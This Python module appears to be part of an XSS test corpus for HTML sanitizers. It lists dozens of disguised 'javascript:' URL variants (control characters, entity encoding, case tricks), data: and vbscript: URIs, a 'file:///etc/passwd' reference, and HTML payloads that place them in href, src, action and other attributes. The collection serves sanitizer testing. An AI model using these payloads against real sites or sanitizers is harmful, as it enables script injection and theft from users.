"""Addresses that act, in every disguise, in every place that takes an address."""

from .payload import payloads

_ACTING = [
    "javascript:JS",
    "JaVaScRiPt:JS",
    " javascript:JS",
    "\tjavascript:JS",
    "\x01javascript:JS",
    "\x1fjavascript:JS",
    "\x0bjavascript:JS",
    "java\tscript:JS",
    "java\nscript:JS",
    "java\rscript:JS",
    "java\r\nscript:JS",
    "javascript\t:JS",
    "javascript\n:JS",
    "java\0script:JS",
    "\0javascript:JS",
    "javascript&colon;JS",
    "javascript&#58;JS",
    "javascript&#58JS",
    "javascript&#x3a;JS",
    "&#106;avascript:JS",
    "&#x6A;avascript:JS",
    "&#0000106avascript:JS",
    "&#x000006Aavascript:JS",
    "jav&Tab;ascript:JS",
    "jav&NewLine;ascript:JS",
    "&#1;javascript:JS",
    "&#14;javascript:JS",
    "&nbsp;javascript:JS",
    "javascript:/**/JS",
    "javascript://x%0aJS",
    "javascript://https://example.org/%0aJS",
    "javascript:'<script>JS</script>'",
    "javascript:%61lert(/canary/)",
    "javascript&#x3a;%2f**%2falert(/canary/)",
    "javascript:void(JS)",
    "javascript:javascript:JS",
    "view-source:javascript:JS",
    "feed:javascript:JS",
    "jar:javascript:JS!/",
    "vbscript:msgbox(1)",
    "livescript:JS",
    "mocha:JS",
    "data:text/html,<script>JS</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgvY2FuYXJ5Lyk8L3NjcmlwdD4=",
    "data:text/html;charset=utf-7,+ADw-script+AD4-alert(/canary/)+ADw-/script+AD4-",
    "DATA:text/html,<script>JS</script>",
    "data:,text/html,<script>JS</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>JS</script></svg>",
    "data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>JS</script>",
    "blob:null/x",
    "filesystem:http://canary.lan/x",
    "file:///etc/passwd",
    "about:blank#JS",
    "intent://canary.lan#Intent;scheme=javascript;end",
    "ws://canary.lan/",
    "ftp://canary.lan/",
    "//canary.lan/",
    "https:canary.lan",
]


def _quoted(address: str) -> str:
    return '"' + address.replace('"', "&quot;") + '"'


PAYLOADS = (
    *payloads(
        "protocol",
        [
            # what the link itself cannot do unclicked, the frame beside it shows
            *(f"<a href={_quoted(a)} target=_self>x</a>" for a in _ACTING),
            *(f"<iframe src={_quoted(a)}></iframe>" for a in _ACTING[:30]),
        ],
    ),
    *payloads(
        "place",
        [
            "<form action=javascript:JS><button autofocus onfocus=click()>x</button></form>",
            "<object data=javascript:JS></object><img src=LAN/place1>",
            "<area href=javascript:JS shape=default><img src=LAN/place2>",
            "<blockquote cite=javascript:JS><img src=LAN/place3></blockquote>",
            "<q cite=LAN/q><img src=LAN/place4></q>",
            "<del cite=javascript:JS><img src=LAN/place5></del>",
            "<a href=# ping=LAN/ping>x</a><img src=LAN/place6>",
            "<a href=LAN/download download=x target=_top>x</a><img src=LAN/place7>",
            "<a xlink:href=javascript:JS>x</a><img src=LAN/place8>",
            "<a attributionsrc=LAN/a href=LAN/b>x</a><img attributionsrc src=LAN/place9>",
            "<html manifest=LAN/manifest><img src=LAN/place10>",
            "<head profile=LAN/profile><img src=LAN/place11>",
            "<p itemscope itemtype=LAN/type itemid=javascript:JS><img src=LAN/place12></p>",
            "<table><tr><td><img src=LAN/place13 onerror=JS></td></tr></table>",
        ],
    ),
)
